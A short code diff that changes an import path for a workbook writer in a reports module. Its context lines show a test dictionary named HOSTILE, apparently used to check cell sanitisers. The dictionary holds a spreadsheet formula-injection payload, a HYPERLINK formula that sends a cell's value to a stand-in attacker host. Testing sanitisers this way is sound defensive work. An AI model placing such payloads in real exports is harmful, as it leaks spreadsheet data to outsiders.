@@ -18,7 +18,7 @@ from werkzeug import Response
 
 from connectors.shared.cells import FORMULA_STARTS, safe_frame, safe_text
 from reports import shortlist as sl
-from reports.shortlist_workbook import write_workbook
+from reports.shortlist.workbook import write_workbook
 
 HOSTILE = {
     "11001": '=HYPERLINK("http://evil.example/?leak="&B2,"Béziers")',
